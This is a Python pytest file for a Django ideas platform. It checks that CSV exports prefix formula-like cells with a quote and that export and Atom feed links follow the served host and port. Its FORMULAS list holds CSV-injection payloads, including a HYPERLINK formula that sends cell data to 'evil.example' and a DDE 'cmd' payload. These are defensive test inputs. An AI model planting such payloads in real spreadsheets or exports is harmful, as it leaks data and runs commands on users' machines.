"""Exports are safe to open in a spreadsheet and link to where the site is
served: formula-looking cells are neutralised in every CSV, and the CSV's
url column and the Atom feed's links follow the request's host and port."""

import csv
import io

import pytest

from ideas.csvsafe import neutralise
from moderation.models import ModerationAction

from ..factories import IdeaFactory

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+SUM(1,2)", "-2+3", "@SUM(A1:A2)",
            "\t=cmd|' /C calc'!A0", "\r=1+1"]


def export_rows(client, call, **extra):
    response = client.get(call.url + "export/", **extra)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.django_db
@pytest.mark.parametrize("payload", FORMULAS)
def test_formula_cells_in_the_call_export_are_neutralised(call, client, payload):
    idea = IdeaFactory(call=call, title=payload, summary=payload, organisation=payload)
    idea.tags.add(payload[:40])
    [row] = export_rows(client, call)
    for column in ("title", "summary", "organisation"):
        assert row[column] == "'" + payload, column
    assert row["tags"].startswith("'")
    assert row["supports"] == "0"  # numbers are not text: left as they are


@pytest.mark.django_db
def test_ordinary_text_is_exported_unchanged(call, client):
    IdeaFactory(call=call, title="Cheaper buses", summary="Fares down 20% - really", organisation="A=B Ltd")
    [row] = export_rows(client, call)
    assert (row["title"], row["summary"], row["organisation"]) == ("Cheaper buses", "Fares down 20% - really", "A=B Ltd")


@pytest.mark.django_db
def test_formula_cells_in_the_transparency_csv_are_neutralised(mission, client):
    ModerationAction.objects.create(mission=mission, kind=ModerationAction.Kind.HIDE, reason="=1+1")
    body = client.get(f"/transparency/{mission.slug}.csv").content.decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [r["reason"] for r in rows] == ["'=1+1"]


def test_every_dangerous_first_character_is_covered():
    assert [neutralise(p)[0] for p in FORMULAS] == ["'"] * len(FORMULAS)
    assert neutralise(-5) == -5 and neutralise("") == "" and neutralise("a-b") == "a-b"


@pytest.mark.django_db
def test_export_and_feed_links_follow_the_address_the_site_is_served_at(call, client):
    """`make run PORT=8100` linked to :8000 (SITE_URL's default) in the CSV."""
    idea = IdeaFactory(call=call)
    [row] = export_rows(client, call, HTTP_HOST="127.0.0.1:8100")
    assert row["url"] == f"http://127.0.0.1:8100/ideas/{idea.pk}/"
    feed = client.get(call.url + "feed/", HTTP_HOST="127.0.0.1:8100").content.decode()
    assert f"http://127.0.0.1:8100/ideas/{idea.pk}/" in feed
    assert ":8000" not in feed
